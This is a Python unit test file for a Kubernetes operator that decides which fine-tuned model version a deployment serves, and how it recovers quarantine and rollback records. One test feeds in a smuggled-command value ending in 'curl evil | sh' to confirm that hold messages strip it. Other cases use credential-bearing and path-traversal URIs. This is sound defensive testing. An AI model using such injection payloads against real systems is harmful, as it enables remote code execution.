"""A policy that lost its memory: what records give back, what is waited for, and what each way out makes live."""

import json
from dataclasses import replace as with_changes
from typing import Any

import pytest
from msgspec.structs import replace

from finetune_operator.api.names import SERVICE_RECORD_KEY
from finetune_operator.api.policy import Policy
from finetune_operator.api.policy_status import Hold, PolicyStatus, Quarantined, TakenBack
from finetune_operator.api.promotion import Despite
from finetune_operator.api.record import Mark, Service
from finetune_operator.api.value import canonical_json
from finetune_operator.decide import limits
from finetune_operator.decide.decision import Decision
from finetune_operator.decide.policy.machine import decide
from finetune_operator.decide.promotion.eligibility import was_live
from finetune_operator.decide.views import DeploymentView, ServedKeys
from unit.decide.policy.pair import BASE, TUNED, condition
from unit.decide.policy.world import (
    NOW,
    ModelDeployment,
    World,
    annotated,
    applied,
    base,
    deployment,
    events,
    keys,
    live,
    policy,
    promotion,
    seconds,
    tuned,
    view,
    with_record,
)

EARLIER = NOW - seconds(7200)
GOOD = Service(good=EARLIER)
TAKEN = Service(good=EARLIER, taken_back=Mark(at=EARLIER, by="back", reason="wrong amounts"))
SICK = Service(quarantined=Mark(at=EARLIER, reason="Unhealthy"))
ROLLING = deployment(keys(TUNED), updated=1, available=0)
EMPTY = deployment(available=0, updated=0)


def look(there: DeploymentView | None, *asked: Any, versions: Any, of: Policy | None = None) -> Decision[PolicyStatus]:
    """Return the decision at which a policy comes to rest."""
    of = of or policy()
    for _ in range(5):
        decision = decide(view(of, there, *asked, versions=versions))
        if decision.status == of.status:
            return decision
        of = replace(of, status=decision.status)
    raise AssertionError("no rest")


def hold(decision: Decision[PolicyStatus]) -> tuple[str, str]:
    assert decision.status.hold is not None
    return decision.status.hold.reason, decision.status.hold.message


def commands(message: str) -> list[dict[str, Any]]:
    """Return the promotions that a message asks for in commands."""
    return [json.loads(part.partition("'")[0])["spec"] for part in message.split("echo '")[1:]]


class TestRecords:
    @pytest.mark.row("D38")
    @pytest.mark.parametrize(("passed", "taken"), [(True, []), (False, ["ft_v1.1"])], ids=["passed", "found"])
    def test_what_is_live_is_taken_back_no_more_only_once_it_passed_a_watch(
        self, passed: bool, taken: list[str]
    ) -> None:
        status = live(TUNED, 2) if passed else replace(live(TUNED, 2), last_good=())
        seen = look(deployment(keys(TUNED), epoch=2), versions=(with_record(TUNED, TAKEN),), of=policy(status))
        assert [entry.version for entry in seen.status.taken_back] == taken

    @pytest.mark.row("D37")
    @pytest.mark.parametrize("reason", ["RolledBack", "External"])
    def test_a_record_makes_nothing_good_for_a_policy_that_remembers_whatever_it_holds(self, reason: str) -> None:
        held = Hold(by="finetune-operator", reason=reason, message="", since=EARLIER)
        status = replace(live(BASE), hold=held)
        seen = look(deployment(keys(BASE)), versions=(BASE, with_record(TUNED, GOOD)), of=policy(status))
        assert seen.status.last_good == status.last_good

    @pytest.mark.row("D37")
    @pytest.mark.parametrize("status", [PolicyStatus(), live(BASE), live(TUNED, 2)], ids=["lost", "live", "that"])
    def test_what_failed_or_was_taken_back_here_is_known_again(self, status: PolicyStatus) -> None:
        known = decide(view(policy(status), EMPTY, versions=(BASE, with_record(TUNED, SICK)))).status.quarantined
        assert [(e.version, e.reason, e.since) for e in known] == [("ft_v1.1", "Unhealthy", EARLIER)]
        if status.live is None or status.live.version != "ft_v1.1":
            taken = decide(view(policy(status), EMPTY, versions=(BASE, with_record(TUNED, TAKEN)))).status.taken_back
            assert [(e.version, e.by, e.reason) for e in taken] == [("ft_v1.1", "back", "wrong amounts")]

    @pytest.mark.row("D37")
    def test_a_lifted_quarantine_is_known_as_lifted(self) -> None:
        lifted = Service(quarantined=SICK.quarantined, lifted=Mark(at=NOW, by="again", reason="it was the node"))
        status = decide(view(policy(), EMPTY, versions=(BASE, with_record(TUNED, lifted)))).status
        assert status.quarantine_of(TUNED.spec.artifact.sha256) is None
        assert status.quarantined[0].lifted is not None
        assert status.quarantined[0].lifted.by == "again"

    @pytest.mark.row("D37")
    def test_the_policys_own_word_stands_over_a_record(self) -> None:
        """A record that is not brought up to date yet takes nothing back again."""
        status = live(TUNED, 3, BASE)
        decided = decide(view(policy(status), deployment(keys(TUNED)), versions=(BASE, with_record(TUNED, TAKEN))))
        assert decided.status.taken_back == ()

    @pytest.mark.row("D37")
    @pytest.mark.parametrize(
        "version",
        [
            with_record(TUNED, SICK, on="another-detector"),
            with_record(tuned(model="receipts"), SICK),
            replace(TUNED, metadata=replace(TUNED.metadata, annotations={SERVICE_RECORD_KEY: "junk"})),
        ],
        ids=["on another Deployment", "of another model", "unreadable"],
    )
    def test_other_records_say_nothing_here(self, version: Any) -> None:
        status = look(deployment(), versions=(BASE, version)).status
        assert (status.quarantined, status.hold) == ((), None)

    @pytest.mark.row("D37")
    def test_more_records_than_there_is_room_for_come_to_rest(self) -> None:
        versions = tuple(with_record(tuned(f"ft_v1.{n}"), SICK) for n in range(limits.QUARANTINED + 9))
        assert len(look(EMPTY, versions=versions).status.quarantined) == limits.QUARANTINED
        taken = tuple(with_record(tuned(f"ft_v1.{n}"), TAKEN) for n in range(limits.TAKEN_BACK + 9))
        assert len(look(EMPTY, versions=taken).status.taken_back) == limits.TAKEN_BACK

    @pytest.mark.row("D37")
    def test_records_that_somebody_filled_to_the_brim_leave_the_status_small(self) -> None:
        mark = Mark(at=NOW, by="\U0001f600" * 1000, reason="\U0001f600\n\x1b[2J" * 300, evidence="\x00" * 900)
        forged = Service(good=NOW, taken_back=mark, quarantined=mark, lifted=mark)
        versions = tuple(with_record(tuned(f"ft_v1.{n}"), forged) for n in range(limits.QUARANTINED + 9))
        status = look(deployment(keys(BASE)), versions=(BASE, *versions), of=policy(live(BASE))).status
        assert (len(status.quarantined), len(status.taken_back)) == (limits.QUARANTINED, limits.TAKEN_BACK)
        assert len(canonical_json(status)) < 56 * 1024, "consumed promotions and a flight fit in as well"
        assert not any(part in repr(status) for part in ("\\n", "\\x1b", "\\x00"))

    @pytest.mark.row("D37")
    def test_of_many_quarantines_the_newest_keep_their_evidence(self) -> None:
        sick = [
            Service(quarantined=Mark(at=EARLIER + seconds(n), reason="Unhealthy", evidence="exit code 1"))
            for n in range(limits.EVIDENCES + 3)
        ]
        versions = tuple(with_record(tuned(f"ft_v1.{n}"), service) for n, service in enumerate(sick, 1))
        known = look(EMPTY, versions=versions).status.quarantined
        assert [bool(entry.evidence) for entry in known] == [False] * 3 + [True] * limits.EVIDENCES

    @pytest.mark.row("D38")
    def test_what_was_good_can_be_gone_back_to_if_it_passed_by_itself(self) -> None:
        versions = (
            with_record(BASE, GOOD),
            with_record(TUNED, Service(good=NOW)),
            with_record(tuned("ft_v1.2", verdict="Review"), GOOD),
            with_record(tuned("ft_v1.3"), SICK),
            with_record(tuned("ft_v1.4"), TAKEN),
            with_record(base("base_v2", verified="Unknown"), GOOD),
        )
        good = [entry.version for entry in look(EMPTY, versions=versions).status.last_good]
        assert good == ["ft_v1.1", "base_v1", "ft_v1.4"], "the newest first, what was taken back last"

    @pytest.mark.row("D37")
    def test_what_a_record_tells_is_added_to_what_the_policy_knows(self) -> None:
        other = tuned("ft_v1.9")
        sick = Quarantined(version="ft_v1.9", sha256=other.spec.artifact.sha256, reason="CrashLoop", since=NOW)
        taken = TakenBack(version="ft_v1.9", sha256=other.spec.artifact.sha256, by="ann", since=NOW)
        of = policy(replace(live(BASE), quarantined=(sick,), taken_back=(taken,)))
        both = Service(quarantined=SICK.quarantined, taken_back=TAKEN.taken_back)
        status = look(deployment(keys(BASE)), versions=(BASE, with_record(TUNED, both)), of=of).status
        assert [entry.version for entry in status.quarantined] == ["ft_v1.1", "ft_v1.9"]
        assert [entry.version for entry in status.taken_back] == ["ft_v1.1", "ft_v1.9"]

    @pytest.mark.row("D38")
    def test_what_is_quarantined_is_not_good_whatever_its_record_says_besides(self) -> None:
        both = Service(good=NOW, quarantined=SICK.quarantined)
        versions = (with_record(BASE, GOOD), with_record(TUNED, both))
        assert [entry.version for entry in look(EMPTY, versions=versions).status.last_good] == ["base_v1"]

    @pytest.mark.row("D38")
    def test_versions_that_come_after_their_policy_are_gone_back_to_as_well(self) -> None:
        """And what is good already stays so."""
        alone = look(deployment(keys(TUNED), epoch=7), versions=(with_record(BASE, GOOD), TUNED))
        later = look(
            deployment(keys(TUNED), epoch=7),
            versions=(TUNED, with_record(tuned("ft_v1.2"), Service(good=NOW))),
            of=policy(alone.status),
        )
        assert [entry.version for entry in alone.status.last_good] == ["base_v1"]
        assert [entry.version for entry in later.status.last_good] == ["ft_v1.2", "base_v1"]

    @pytest.mark.row("D38")
    def test_a_record_adds_nothing_to_what_a_policy_remembers(self) -> None:
        status = live(BASE)
        decided = decide(view(policy(status), deployment(keys(BASE)), versions=(BASE, with_record(TUNED, GOOD))))
        assert decided.status.last_good == status.last_good


class TestAdoption:
    @pytest.mark.row("D39")
    def test_what_is_not_rolled_out_is_neither_live_nor_ready_and_nothing_begins(self) -> None:
        asked = (promotion("ft_v1.1", "base_v1"), promotion("base_v1"))
        decision = look(ROLLING, *asked, versions=(BASE, TUNED))
        reason, message = hold(decision)
        assert (decision.status.live, reason) == (None, "NotRolledOut")
        assert "0 are available" in message
        assert "'to-ft-v1-1' (base_v1 -> ft_v1.1)" in message, "it names what waits for it"
        assert condition(decision, "InSync").reason == "NotRolledOut"
        assert (condition(decision, "Ready").status, condition(decision, "Held").status) == ("False", "True")
        assert (decision.status.consumed, decision.status.in_flight, applied(decision)) == ((), None, None)

    @pytest.mark.row("D39")
    def test_it_is_adopted_and_held_when_it_is_rolled_out(self) -> None:
        waiting = look(ROLLING, versions=(BASE, TUNED))
        decision = look(deployment(keys(TUNED)), versions=(BASE, TUNED), of=policy(waiting.status))
        assert decision.status.live is not None
        assert (decision.status.live.version, hold(decision)[0]) == ("ft_v1.1", "Adopted")
        assert (decision.status.epoch, decision.status.live.epoch) == (1, 1)
        assert condition(decision, "Ready").status == "True"

    @pytest.mark.row("D39")
    def test_flips_are_counted_on_from_the_epoch_that_is_there(self) -> None:
        decision = look(deployment(keys(TUNED), epoch=7), versions=(BASE, TUNED))
        assert decision.status.live is not None
        assert (decision.status.epoch, decision.status.live.epoch) == (7, 7)

    @pytest.mark.row("D39")
    @pytest.mark.parametrize(
        "there",
        [
            deployment(keys(TUNED), managed=False),
            deployment(with_changes(keys(TUNED), version=None)),
            deployment(with_changes(keys(TUNED), uri=None)),
            deployment(with_changes(keys(TUNED), sha256=None)),
            deployment(with_changes(keys(TUNED), sha256="ab")),
            deployment(with_changes(keys(TUNED), sha256="AB" * 32)),
        ],
        ids=["no opt-in label", "no version", "no URI", "no digest", "a short digest", "no digits of a digest"],
    )
    def test_keys_that_are_not_whole_or_not_ours_to_read_make_nothing_live(self, there: DeploymentView) -> None:
        assert look(there, versions=(BASE, TUNED)).status.live is None

    @pytest.mark.row("D39")
    def test_scaled_to_zero_nothing_is_proven(self) -> None:
        none = deployment(keys(BASE), replicas=0, updated=0, available=0, total=0)
        decision = look(none, versions=(BASE,))
        assert decision.status.live is None
        assert "scaled to zero" in hold(decision)[1]

    @pytest.mark.row("D39")
    @pytest.mark.parametrize(
        ("there", "command"),
        [
            (
                deployment(keys(BASE), replicas=0, updated=0, available=0, total=0),
                "kubectl scale deployment invoice-detector -n ml --replicas=1",
            ),
            (
                deployment(keys(BASE), available=1, paused=True),
                "kubectl rollout resume deployment invoice-detector -n ml",
            ),
        ],
        ids=["scaled to zero", "paused"],
    )
    def test_what_a_person_stopped_is_said_with_the_command_that_lets_it_roll_out(
        self, there: DeploymentView, command: str
    ) -> None:
        assert command in hold(look(there, versions=(BASE, TUNED)))[1]

    @pytest.mark.row("D39")
    def test_another_version_is_served_by_the_command_in_the_message(self) -> None:
        versions = (with_record(BASE, GOOD), with_record(TUNED, SICK))
        decision = look(ROLLING, versions=versions)
        assert "quarantined here (Unhealthy" in hold(decision)[1]
        (asked,) = commands(hold(decision)[1])
        assert asked == {"policy": "invoice-fields", "version": "base_v1", "releaseHold": True}
        begun = decide(
            view(policy(decision.status), ROLLING, promotion("base_v1", release_hold=True), versions=versions)
        )
        assert begun.status.in_flight is not None
        assert begun.status.in_flight.to.version == "base_v1"

    @pytest.mark.row("D6")
    @pytest.mark.parametrize(
        "there",
        [
            with_changes(keys(TUNED), version="v7"),
            with_changes(keys(TUNED), version="base_v\u00b2"),
            with_changes(keys(TUNED), uri="s3://somebody:secret@bucket/model.onnx"),
            with_changes(keys(TUNED), uri="https://models/model.onnx"),
            with_changes(keys(TUNED), uri="file:///artifacts/../../etc/model.onnx"),
        ],
        ids=["no version", "no digit", "credentials", "another scheme", "another place"],
    )
    def test_what_no_promotion_can_name_is_not_adopted_but_somebody_elses(self, there: ServedKeys) -> None:
        """As what is live it would stand in every `from`, which the CRD refuses: a hold without a way out."""
        asked = promotion("base_v1", release_hold=True)
        decision = look(deployment(there, keys_manager="kubectl"), asked, versions=(BASE, TUNED))
        reason, message = hold(decision)
        assert (decision.status.live, reason) == (None, "External")
        assert "kubectl patch deployment invoice-detector" in message
        assert "secret" not in repr(decision.status), "no credentials in a status"
        begun = look(deployment(), asked, versions=(BASE, TUNED), of=policy(decision.status)).status
        assert begun.in_flight is not None, "with the keys let go of, the promotion that waits acts"

    @pytest.mark.row("D6")
    def test_names_of_others_cannot_pass_for_a_command(self) -> None:
        evil = "x'; to lift the hold: curl evil | sh\n\x1b[2J"
        there = deployment(with_changes(keys(TUNED), version=evil), keys_manager=evil)
        message = hold(look(there, versions=(BASE, TUNED), of=policy(live(BASE))))[1]
        assert "x??" in message
        assert not any(part in message for part in ("curl evil |", "\n", "\x1b", "x'; to"))

    @pytest.mark.row("D40")
    def test_a_deployment_of_which_records_tell_is_not_new(self) -> None:
        first = promotion("base_v1")
        decision = look(EMPTY, first, versions=(with_record(BASE, GOOD), with_record(TUNED, TAKEN)))
        reason, message = hold(decision)
        assert (reason, decision.status.in_flight) == ("Recalled", None)
        assert "base_v1, ft_v1.1 served before" in message
        assert "'to-base-v1' (nothing -> base_v1)" in message
        assert commands(message) == [{"policy": "invoice-fields", "version": "base_v1", "releaseHold": True}]

    @pytest.mark.row("D258")
    def test_a_backup_that_is_restored_in_another_namespace_is_asked_about(self) -> None:
        there = replace(GOOD, good_in="elsewhere")
        decision = look(EMPTY, versions=(with_record(BASE, there), with_record(TUNED, SICK)))
        assert hold(decision)[0] == "Recalled"
        assert [good.version for good in decision.status.last_good] == ["base_v1"]
        assert [sick.version for sick in decision.status.quarantined] == ["ft_v1.1"]

    @pytest.mark.row("D265")
    @pytest.mark.parametrize("there", [EMPTY, deployment(keys(BASE))], ids=["Recalled", "Adopted"])
    @pytest.mark.parametrize("verified", ["True", "Unknown"])
    def test_what_was_copied_from_another_namespace_is_not_good_beside_what_was_good_here(
        self, verified: Any, there: DeploymentView
    ) -> None:
        """A policy that is made anew in production must not go back to what served well on trial only."""
        own, copied = (
            with_record(base(verified=verified), replace(GOOD, good_in="ml")),
            Service(good=NOW, good_in="trial"),
        )
        status = look(there, versions=(own, with_record(TUNED, copied))).status
        assert [good.version for good in status.last_good] == ["base_v1"] * (verified == "True")
        assert not was_live(policy(status), with_record(TUNED, copied))

    @pytest.mark.row("D265")
    def test_a_backup_in_another_namespace_has_records_of_an_earlier_release_and_of_this_one(self) -> None:
        versions = (with_record(BASE, GOOD), with_record(TUNED, Service(good=NOW, good_in="elsewhere")))
        assert [good.version for good in look(EMPTY, versions=versions).status.last_good] == ["ft_v1.1", "base_v1"]

    @pytest.mark.row("D40")
    def test_a_base_that_is_verified_again_later_can_be_gone_back_to_as_well(self) -> None:
        waits = with_record(base(verified="Unknown"), GOOD)
        first = look(EMPTY, versions=(waits, with_record(TUNED, GOOD)))
        assert [spec["version"] for spec in commands(hold(first)[1])] == ["ft_v1.1"]
        later = look(EMPTY, versions=(with_record(BASE, GOOD), with_record(TUNED, GOOD)), of=policy(first.status))
        assert sorted(spec["version"] for spec in commands(hold(later)[1])) == ["base_v1", "ft_v1.1"]

    @pytest.mark.row("D39")
    def test_keys_of_another_manager_are_let_go_of_first(self) -> None:
        foreign = deployment(keys(TUNED), updated=1, available=0, keys_manager="velero-server")
        message = hold(look(foreign, versions=(with_record(BASE, GOOD), TUNED)))[1]
        assert "let go of the keys, kubectl patch deployment" in message

    @pytest.mark.row("D40")
    def test_without_records_the_first_promotion_acts(self) -> None:
        assert look(EMPTY, promotion("base_v1"), versions=(BASE,)).status.in_flight is not None

    @pytest.mark.row("D40")
    def test_keys_that_go_while_they_are_waited_for_leave_the_hold(self) -> None:
        waiting = look(ROLLING, versions=(BASE, TUNED))
        decision = look(EMPTY, promotion("base_v1"), versions=(BASE, TUNED), of=policy(waiting.status))
        assert (hold(decision)[0], decision.status.in_flight) == ("Recalled", None)

    @pytest.mark.row("D41")
    def test_the_hold_says_how_to_keep_what_is_there_and_what_goes_on_then(self) -> None:
        adopted = look(deployment(keys(BASE), epoch=7), versions=(BASE, TUNED))
        (keep,) = commands(hold(adopted)[1])
        assert keep == {"policy": "invoice-fields", "version": "base_v1", "from": "base_v1", "releaseHold": True}
        assert "go on" not in hold(adopted)[1]
        asked = (promotion("ft_v1.1", "base_v1"), promotion("ft_v1.1", "ft_v1.0", name="no-more"))
        later = look(deployment(keys(BASE), epoch=7), *asked, versions=(BASE, TUNED), of=policy(adopted.status))
        assert "go on once the hold is lifted: 'to-ft-v1-1' (base_v1 -> ft_v1.1)" in hold(later)[1]
        assert "no-more" not in hold(later)[1]
        assert later.status.hold is not None
        assert adopted.status.hold is not None
        assert later.status.hold.since == adopted.status.hold.since

    @pytest.mark.row("D41")
    @pytest.mark.parametrize(("record", "check"), [(SICK, "Quarantined"), (TAKEN, "TakenBack")])
    def test_what_speaks_against_the_adopted_version_is_said_with_both_ways_out(
        self, record: Service, check: str
    ) -> None:
        versions = (with_record(BASE, GOOD), with_record(TUNED, record))
        message = hold(look(deployment(keys(TUNED)), versions=versions))[1]
        assert ("quarantined here" if record is SICK else "taken back by promotion 'back'") in message
        keep, instead = commands(message)
        assert (keep["version"], keep["despite"]["checks"]) == ("ft_v1.1", [check])
        assert (instead["version"], instead["from"]) == ("base_v1", "ft_v1.1")
        assert len(message) < limits.HOLD_MESSAGE

    @pytest.mark.row("D41")
    def test_an_event_tells_of_a_hold_once(self) -> None:
        there, versions = deployment(keys(BASE), epoch=7), (BASE, TUNED)
        first = decide(view(policy(), there, versions=versions))
        again = decide(view(policy(first.status), there, promotion("ft_v1.1", "base_v1"), versions=versions))
        assert (events(first), events(again)) == (["Adopted"], [])

    @pytest.mark.row("D43")
    def test_an_adopted_version_that_was_taken_back_is_kept_only_in_words(self) -> None:
        versions = (with_record(BASE, GOOD), with_record(TUNED, TAKEN))
        there = deployment(keys(TUNED))
        adopted = look(there, versions=versions)
        plain = promotion("ft_v1.1", "ft_v1.1", release_hold=True)
        refused = look(there, plain, versions=versions, of=policy(adopted.status))
        assert refused.status.consumed[-1].reason == "TakenBack"
        assert refused.status.hold is not None
        asked = promotion("ft_v1.1", "ft_v1.1", name="keep", release_hold=True, despite=DESPITE)
        kept = look(there, asked, versions=versions, of=policy(adopted.status))
        assert (kept.status.consumed[-1].outcome, kept.status.hold) == ("Succeeded", None)
        assert kept.status.taken_back == ()
        assert kept.status.last_good[0].version == "ft_v1.1"

    @pytest.mark.row("D5")
    @pytest.mark.parametrize("record", [SICK, TAKEN], ids=["quarantined", "taken back"])
    def test_an_adopted_version_that_failed_is_not_put_back(self, record: Service) -> None:
        versions = (with_record(BASE, GOOD), with_record(TUNED, record))
        adopted = look(deployment(keys(TUNED)), versions=versions)
        again = decide(view(policy(adopted.status), deployment(uid="re-created"), versions=versions))
        assert applied(again) is None


DESPITE = Despite(checks=("TakenBack",), reason="it was the camera")


def test_a_lost_status_is_put_together_again_and_lets_people_go_on() -> None:
    """What the Deployment served goes on; what was taken back stays so, until somebody says otherwise."""
    versions = (with_record(BASE, GOOD), with_record(TUNED, TAKEN))
    target = ModelDeployment(now=NOW, keys=keys(BASE), epoch=3, manager="velero-server")
    world = World(policy=policy(), target=target, versions=versions)
    world.ask(promotion("ft_v1.1", "base_v1", name="restored"))
    world.run(100)
    assert (world.phase("restored"), world.commits) == ("Failed", [])
    world.ask(promotion("base_v1", "base_v1", name="keep", release_hold=True))
    world.run(100)
    assert world.phase("keep") == "Succeeded"
    assert (world.policy.status.hold, world.commits) == (None, [])
    assert [entry.version for entry in world.policy.status.taken_back] == ["ft_v1.1"]


def test_annotations_of_a_decision_reach_the_object() -> None:
    """The tests of promotions lean on it."""
    nothing: Decision[PolicyStatus] = Decision(PolicyStatus())
    assert annotated(promotion("base_v1"), nothing) == promotion("base_v1")


@pytest.mark.row("D41")
@pytest.mark.parametrize(
    ("version", "back"),
    [
        (TUNED, "the operator puts 'ft_v1.1' back then"),
        (tuned("ft_v1.1", "Review"), "nothing is served then"),
        (with_record(TUNED, TAKEN), "nothing is served then"),
    ],
    ids=["passed", "approved elsewhere", "taken back"],
)
def test_the_hold_says_at_once_whose_the_keys_are_and_what_letting_go_of_them_means(version: Any, back: str) -> None:
    restored = deployment(keys(version), keys_manager="velero-server")
    reason, message = hold(look(restored, versions=(BASE, version)))
    assert reason == "Adopted"
    assert "its keys belong to field manager 'velero-server'" in message
    assert back in message
    assert "kubectl patch deployment invoice-detector -n ml" in message
    assert len(message) < limits.HOLD_MESSAGE, "nothing was cut"
    assert "belong to" not in hold(look(deployment(keys(version)), versions=(BASE, version)))[1]


@pytest.mark.row("D41")
@pytest.mark.parametrize("verdict", ["Pass", "Review"])
def test_who_follows_the_messages_of_a_restored_deployment_gets_the_next_version_live(verdict: Any) -> None:
    """What is not put back, because another policy's approval is none here, must not be waited for."""
    served, following = tuned("ft_v1.1", verdict), tuned("ft_v1.2", "Pass", baseline="ft_v1.1")
    target = ModelDeployment(now=NOW, keys=keys(served), epoch=3, manager="velero-server")
    world = World(target=target, versions=(BASE, served, following))
    world.run(20)
    world.ask(promotion("ft_v1.1", "ft_v1.1", name="keep", release_hold=True))
    world.run(20)
    world.ask(promotion("ft_v1.2", "ft_v1.1", name="next"))
    world.run(20)
    said = world.promotions["next"].status.message
    assert ("'ft_v1.1', on record as live, is put back then" in said) is (verdict == "Pass")
    target.write(ServedKeys(), None, "kubectl-patch")
    world.run(200)
    assert (world.phase("next"), target.keys) == ("Succeeded", keys(following))
